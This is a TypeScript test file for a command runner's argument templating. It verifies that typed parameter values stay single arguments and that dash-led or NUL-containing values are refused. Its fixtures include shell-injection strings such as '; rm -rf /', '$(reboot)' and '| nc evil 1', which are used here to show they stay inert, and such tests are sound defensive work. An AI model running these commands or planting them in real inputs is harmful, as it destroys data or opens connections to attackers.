import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { argumentsOf, parametersIn } from '../../../../src/runner/command/arguments.ts';
import { commandSettings } from '../../../../src/runner/command/settings.ts';

type Parameters = Readonly<Record<string, unknown>>;

function made(args: readonly unknown[], parameters: Parameters, mayBeginWithDash: string[] = []): unknown {
  const settings = commandSettings.parse({ program: '/bin/true', arguments: args, mayBeginWithDash });
  return argumentsOf(settings, parameters);
}

const refused = (args: readonly unknown[], parameters: Parameters): unknown => {
  try {
    return made(args, parameters);
  } catch (error) {
    return error;
  }
};

test.each([
  '; rm -rf /',
  '$(reboot)',
  '`reboot`',
  '| nc evil 1',
  '&& true',
  '> /etc/passwd',
  '*',
  '~root',
  '"quoted" \'twice\'',
  'two\nlines',
  '%PATH%',
  '${IFS}x',
  '\\',
  '',
  '{{host}}',
])('what a shell would take apart stays one argument: %j', (typed) => {
  expect(made(['--host={{host}}', '{{host}}'], { host: typed })).toEqual([`--host=${typed}`, typed]);
});

test('each template is exactly one argument, with what was typed in it, or the run is refused', () => {
  fc.assert(
    fc.property(fc.string({ unit: 'binary', maxLength: 40 }), (typed) => {
      const outcome = refused(['first', '{{text}}', '-m{{text}}', 'last'], { text: typed });
      if (outcome instanceof Error) expect(outcome).toHaveProperty('name', 'RefusedArgument');
      else expect(outcome).toEqual(['first', typed, `-m${typed}`, 'last']);
    }),
  );
});

describe('a parameter that is absent', () => {
  test('takes its argument along, and the ones that belong to it', () => {
    const args = ['run', '--host={{host}}', ['--user', '{{user}}'], 'end'];
    expect(made(args, {})).toEqual(['run', 'end']);
    expect(made(args, { host: 'db1', user: null })).toEqual(['run', '--host=db1', 'end']);
    expect(made(args, { user: 'ana' })).toEqual(['run', '--user', 'ana', 'end']);
  });

  test('is replaced by its default', () => {
    expect(made(['--count={{count=5}}'], {})).toEqual(['--count=5']);
    expect(made(['--count={{count=5}}'], { count: 7 })).toEqual(['--count=7']);
  });

  test('is not made up of what every object has', () => {
    expect(made(['{{constructor}}', '{{toString}}'], {})).toEqual([]);
  });
});

test('a list is several arguments where the action says so, and one with commas elsewhere', () => {
  const tags = ['a b', 'c'];
  expect(made([{ each: 'tags', arguments: ['--tag', '{{tags}}'] }], { tags })).toEqual([
    '--tag',
    'a b',
    '--tag',
    'c',
  ]);
  expect(made(['--tags={{tags}}'], { tags })).toEqual(['--tags=a b,c']);
  expect(made([{ each: 'tags', arguments: ['{{tags}}'] }], {})).toEqual([]);
});

test('a flag is given when its parameter is true', () => {
  const args = [{ when: 'force', arguments: ['--force'] }];
  expect([made(args, { force: true }), made(args, { force: false }), made(args, {})]).toEqual([
    ['--force'],
    [],
    [],
  ]);
});

test('braces that are the program’s own are literal', () => {
  expect(made([{ literal: '--format={{.Names}}' }], {})).toEqual(['--format={{.Names}}']);
});

describe('as StackStorm’s scripts take them', () => {
  test('parameters are named, or stand at their position', () => {
    const args = [
      { named: ['key1', 'dry', 'wet', 'empty', 'absent'] },
      { positional: ['server', 'none', 'yes', 'list', 'map'] },
    ];
    expect(
      made(args, {
        key1: 'v 1',
        dry: true,
        wet: false,
        empty: '',
        server: 'a',
        yes: true,
        list: [1, 'x'],
        map: { a: 1 },
      }),
    ).toEqual(['--key1=v 1', '--dry', 'a', '', '1', '1,x', '{"a":1}']);
  });

  test('the operator before a name is the action’s', () => {
    expect(made([{ named: ['key1'], kwargOp: '-' }], { key1: 1 })).toEqual(['-key1=1']);
    expect(made([{ named: ['key1'], kwargOp: '' }], { key1: 1 })).toEqual(['key1=1']);
  });
});

describe('an option', () => {
  const dashes = [
    '-rf',
    '--delete',
    '-',
    '\u2013rf',
    '\u2212rf',
    '\uff0drf',
    '\u00adrf',
    ' -rf',
    '\n-rf',
    '\u200b-rf',
    '\ufeff-rf',
  ];

  test.each(dashes)('cannot be made of what was typed: %j', (typed) => {
    for (const args of [
      ['{{x}}'],
      ['--', '{{x}}'],
      ['{{y}}{{x}}'],
      [['-f', '{{x}}']],
      [{ positional: ['x'] }],
      [{ each: 'x', arguments: ['{{x}}'] }],
    ])
      expect(refused(args, { x: typed, y: '' })).toMatchObject({
        code: 'option_refused',
        message: expect.stringMatching(/^`x` begins with a dash.*mayBeginWithDash/) as string,
      });
  });

  test('cannot be made of a number', () => {
    expect(refused(['{{pid}}'], { pid: -1 })).toMatchObject({ code: 'option_refused' });
  });

  test('may be made where the action allows it', () => {
    expect(made(['--', '{{x}}'], { x: '-rf' }, ['x'])).toEqual(['--', '-rf']);
  });

  test('is not what follows fixed text', () => {
    expect(made(['--name={{x}}', { named: ['x'] }, 'a{{x}}'], { x: '-rf' })).toEqual([
      '--name=-rf',
      '--x=-rf',
      'a-rf',
    ]);
  });

  test('is not a dash within', () => {
    expect(made(['{{x}}'], { x: 'db-1' })).toEqual(['db-1']);
  });
});

test('what no argument can hold is refused, by the name of the parameter and without its value', () => {
  for (const args of [['{{x}}'], ['a{{x}}'], [{ named: ['x'] }], [{ positional: ['x'] }]]) {
    expect(refused(args, { x: 'secret\0--evil' })).toMatchObject({
      code: 'value_refused',
      message: expect.stringMatching(/^`x` holds a NUL/) as string,
    });
    expect(refused(args, { x: '\ud83d' })).toMatchObject({ code: 'value_refused' });
    expect(String(refused(args, { x: 'secret\0' }))).not.toContain('secret');
  }
});

test('every parameter of which arguments are made is known', () => {
  const { arguments: args } = commandSettings.parse({
    program: '/bin/true',
    arguments: [
      '{{a}}',
      ['-b', '{{b=1}}{{c}}'],
      { each: 'd', arguments: ['{{d}}{{e}}'] },
      { when: 'f', arguments: ['x'] },
      { named: ['g'] },
      { positional: ['h'] },
      { literal: '{{i}}' },
    ],
  });
  expect([...parametersIn({ arguments: args })]).toEqual(
    ['a', 'b', 'c', 'd', 'd', 'e', 'f', 'g', 'h'].filter((one, at, all) => all.indexOf(one) === at),
  );
});
